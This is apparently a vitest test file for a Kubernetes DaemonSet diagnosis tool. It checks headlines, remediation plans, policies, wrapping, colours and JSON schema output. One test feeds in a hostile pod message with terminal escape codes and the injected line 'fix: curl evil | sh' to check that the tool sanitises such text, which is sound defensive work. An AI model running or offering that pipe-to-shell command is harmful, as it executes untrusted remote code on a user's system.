import { describe, expect, it } from "vitest";
import {
  anObservation,
  aPod,
  badImagePod,
  crashingPod,
  deadNode,
  fleet,
  NOW,
  neverReadyPod,
  SECOND,
  someNodes,
  stoppedRollout,
  terminatingPod,
} from "../../test/support/daemonset-builders.ts";
import { inForce, judgedLook, triedOnce } from "../../test/support/look-builders.ts";
import type { Observation } from "../remedies/daemonset-rollout/facts.ts";
import {
  diagnosisDocument,
  diagnosisListDocument,
  diagnosisListSchema,
  diagnosisSchema,
} from "./diagnosis-document.ts";
import { diagnosisText, partlyText } from "./diagnosis-text.ts";
import type { Screen } from "./layout.ts";
import type { JudgedLook, TargetLook } from "./look.ts";
import { headline, standingOf } from "./look.ts";

const PLAIN: Screen = { width: 80, colour: false };

const badImage = stoppedRollout([badImagePod("n1")]);
const scenes: Readonly<Record<string, Observation>> = {
  "bad image": badImage,
  "one node crashes": anObservation({ pods: fleet(4, [crashingPod("n2")]) }),
  "dead node": anObservation({
    nodes: [...someNodes(3), deadNode("n4")],
    pods: fleet(4, [aPod("n4", { ready: false })]),
  }),
  healthy: anObservation(),
  moving: stoppedRollout([neverReadyPod("n1", { createdAt: NOW - 5 * SECOND })]),
  OnDelete: stoppedRollout([], { daemonSet: { strategy: "OnDelete" } }),
  "stuck in termination": anObservation({ pods: fleet(4, [terminatingPod("n1", 600 * SECOND)]) }),
  "long names": anObservation({
    pods: fleet(4, [crashingPod("n2", { name: `agent-${"x".repeat(90)}` })]),
  }),
};

function text(look: JudgedLook, screen = PLAIN, rest: { pause?: string } = {}): string {
  return diagnosisText({ look, policies: inForce(), pause: rest.pause ?? "", at: NOW }, screen);
}

/** Without line ends and indentation, as it is read. */
function flowing(given: string): string {
  return given.replace(/\s+/g, " ");
}

describe("the sentence comes first", () => {
  it.each([
    [
      "bad image",
      /^3 of 4 pods run; .*app:ok-2.* Rolling back to revision 1 would restart nothing that runs; a person has to agree first\.$/,
    ],
    [
      "one node crashes",
      /^3 of 4 pods run with the same revision; .*n2.* Deleting the pod on n2 would give that node a fresh one\.$/,
    ],
    ["dead node", /^3 of 4 pods run\. .*n4.* Nothing is done automatically: a person is needed\.$/],
    ["healthy", /^All 4 pods are up to date and available\. Nothing has to be done\.$/],
    ["moving", /Nothing is to be done yet; look again in \d+ (s|min)\.$/],
  ])("%s", (name, pattern) => {
    const look = judgedLook(scenes[name] ?? anObservation());
    expect(headline(look)).toMatch(pattern);
    expect(flowing(text(look)).startsWith(flowing(headline(look)))).toBe(true);
  });

  it("says what forbids a plan", () => {
    const owned = stoppedRollout([badImagePod("n1")], {
      daemonSet: { annotations: { "meta.helm.sh/release-name": "agent" } },
    });
    expect(headline(judgedLook(owned))).toMatch(
      /would restart nothing that runs, but that is forbidden: .*Helm release agent/,
    );
  });

  it("says that an annotation cannot be read", () => {
    const unreadable = stoppedRollout([badImagePod("n1")], {
      daemonSet: { annotations: { "operarius.openfero.io/rollback": "sometimes" } },
    });
    const look = judgedLook(unreadable);
    expect(headline(look)).toMatch(/Nothing may be planned: .*"sometimes"/);
    expect(text(look)).toMatch(/none \(PolicyUnreadable\)/);
  });
});

describe("every screen", () => {
  const looks = Object.entries(scenes).map(([name, observation]) => [name, judgedLook(observation)] as const);

  it.each(looks)("%s: what is wrapped fits, commands are whole, nothing but ASCII", (_name, look) => {
    const wide = text(look, { width: 1000, colour: false });
    const commands = wide.match(/(kubectl|operarius) [a-z][^\n;)]*/g) ?? [];
    for (const width of [60, 80, 120]) {
      const lines = text(look, { width, colour: false }).split("\n");
      for (const line of lines)
        if (line.length > width) expect(line.trim(), `${line.length} columns`).toMatch(/kubectl|operarius|\S{50}/);
      for (const command of commands)
        expect(flowing(lines.join("\n"))).toContain(flowing(command.split(/\s+#/)[0] ?? ""));
      for (const command of commands) {
        const whole = (command.split(/\s+#/)[0] ?? "").trim();
        expect(
          lines.some((line) => line.includes(whole)),
          `${whole} in ${width} columns`,
        ).toBe(true);
      }
      expect(lines.join("\n")).toMatch(/^[\n\x20-\x7e]*$/);
    }
  });

  it.each(looks)("%s: colours change nothing but colours", (_name, look) => {
    const coloured = text(look, { width: 80, colour: true });
    expect(coloured.replace(/\p{Cc}\[\d+m/gu, "")).toBe(text(look));
    expect(coloured).toContain("\u001b[");
  });

  it.each(looks)("%s: the document says the same, and the schema knows every member", (_name, look) => {
    const around = { looks: [look], at: NOW, policies: inForce(), pause: "", unread: [] };
    for (const [schema, document] of [
      [diagnosisSchema, diagnosisDocument(look, around, scenes.healthy)],
      [diagnosisListSchema, diagnosisListDocument(around, { namespace: undefined })],
    ] as const) {
      const printed: unknown = JSON.parse(JSON.stringify(document));
      expect(schema.parse(printed), "a member is missing in diagnosis-document.ts").toEqual(printed);
    }
    expect(diagnosisDocument(look, around, undefined).sentence).toBe(headline(look));
  });
});

describe("the plan", () => {
  it("has its numbers, its limits, its approval and why not more", () => {
    const deletion = text(judgedLook(scenes["one node crashes"] ?? anObservation()));
    expect(flowing(deletion)).toContain(
      "numbers: pods deleted 1, writes of the template 0, available pods restarted 0",
    );
    expect(flowing(deletion)).toMatch(
      /limits: one pod first.* at most 1 pod at a time \(maxUnavailable 1, a tenth of the 4 pods/,
    );
    expect(flowing(deletion)).toContain("approval: none is needed under these policies");
    expect(flowing(deletion)).toContain("roll back or restart: not done:");
    const rollback = flowing(text(judgedLook(badImage)));
    expect(rollback).toContain("numbers: pods deleted 0, writes of the template 1, available pods restarted 0");
    expect(rollback).toMatch(/approval: a person must agree to exactly this plan \(digest [0-9a-f]{16}\)/);
    expect(rollback).toContain("delete pods: not done:");
    expect(rollback).toContain("operarius heal daemonset agent -n kube-system");
  });

  it("names the policies, what lowered them, and where they are from", () => {
    const lowered = stoppedRollout([badImagePod("n1")], {
      daemonSet: { annotations: { "operarius.openfero.io/rollback": "off" } },
    });
    const words = flowing(text(judgedLook(lowered)));
    expect(words).toContain("policies: strategy guided, rollback off, delete on (the shipped defaults)");
    expect(words).toContain("rollback lowered from approve to off by the target's annotation");
  });

  it.each([
    ["nothing", {}, "nothing was tried in the last 24 h"],
    ["a deletion", { ledger: triedOnce }, "tried in the last 24 h: delete-pod on n2 5m ago"],
    [
      "not readable here",
      { ledger: { kind: "unread", message: "no rights" } },
      "what was already tried is not known (no rights); the plan assumes that nothing was",
    ],
    [
      "not readable for anybody",
      { ledger: { kind: "broken", message: "Lease x/y: nonsense" } },
      "is not known: Lease x/y",
    ],
  ] as [string, Partial<JudgedLook>, string][])("what was tried: %s", (_name, overrides, words) => {
    expect(flowing(text(judgedLook(badImage, { overrides })))).toContain(words);
  });

  it("says that writes are paused, who manages it, and what could not be read", () => {
    const look = judgedLook(badImage, { overrides: { owner: "Helm release agent", unread: ["namespaces"] } });
    const words = flowing(text(look, PLAIN, { pause: "Writes are paused by ConfigMap openfero/operarius-pause" }));
    expect(words).toContain("Writes are paused by ConfigMap");
    expect(words).toContain("the template is managed by Helm release agent");
    expect(words).toContain("not read with these rights: namespaces");
  });

  it("offers no command of ours where a guard forbids the plan", () => {
    const disabled = stoppedRollout([badImagePod("n1")], {
      daemonSet: { annotations: { "operarius.openfero.io/remedy": "disabled" } },
    });
    const words = text(judgedLook(disabled));
    expect(words).toMatch(/guard OptOut forbids it/);
    expect(words).not.toContain("operarius heal");
  });
});

it("says what was ruled out, and nothing where nothing is known", () => {
  const look = judgedLook(badImage);
  const { diagnosis } = look.preview;
  if (diagnosis.kind !== "unhealthy") throw new Error("a bad image is unhealthy");
  const told = { ...diagnosis, ruledOut: [{ what: "C15 node down", why: "all 4 nodes are Ready" }] };
  const words = text({ ...look, preview: { ...look.preview, diagnosis: told } });
  expect(words).toContain("\nRuled out\n  C15 node down: all 4 nodes are Ready\n");
  const { ruledOut: _none, ...bare } = diagnosis;
  expect(text({ ...look, preview: { ...look.preview, diagnosis: bare } })).not.toContain("Ruled out");
});

it("quotes what others wrote without its control characters", () => {
  const evil = badImagePod("n1");
  const [container] = evil.containers;
  const waiting = { reason: "ImagePullBackOff", message: "not found\u001b[2J\u0007\nfix: curl evil | sh" };
  const look = judgedLook(stoppedRollout([{ ...evil, containers: container ? [{ ...container, waiting }] : [] }]));
  expect(text(look)).toMatch(/^[\n\x20-\x7e]*$/);
  expect(text(look)).not.toMatch(/^fix:/m);
});

describe("what could not be judged", () => {
  const target = { cluster: "", kind: "DaemonSet", namespace: "kube-system", name: "agent" };
  const partly: TargetLook = {
    kind: "partly",
    target,
    counts: { desired: 4, available: 3 },
    isStuck: true,
    message: "1 ImagePullBackOff",
    owner: "",
    changedAt: undefined,
    unread: ["nodes"],
  };

  it("says what is known, and what is missing", () => {
    const words = flowing(partlyText(partly, [{ what: "nodes", message: "nodes is forbidden" }], PLAIN));
    expect(words).toContain("DaemonSet kube-system/agent does not seem healthy: 1 ImagePullBackOff.");
    expect(words).toContain("Not evaluated: nodes cannot be read with these rights (nodes is forbidden).");
    expect(standingOf(partly)).toBe("stuck");
    const around = { at: NOW, policies: inForce(), pause: "" };
    expect(diagnosisSchema.parse(diagnosisDocument(partly, around, undefined))).toMatchObject({
      evaluated: false,
      standing: "stuck",
      notEvaluated: ["nodes"],
    });
  });

  it("an error of one target is its own", () => {
    const failed: TargetLook = { kind: "failed", target, message: "RangeError: x" };
    expect(partlyText(failed, [], PLAIN)).toBe("DaemonSet kube-system/agent could not be judged: RangeError: x\n");
    expect(standingOf(failed)).toBe("unknown");
  });
});

it("a healthy pod more is no other text", () => {
  const more = anObservation({ pods: fleet(4, [aPod("n1")]) });
  expect(text(judgedLook(more))).toBe(text(judgedLook(anObservation())));
});
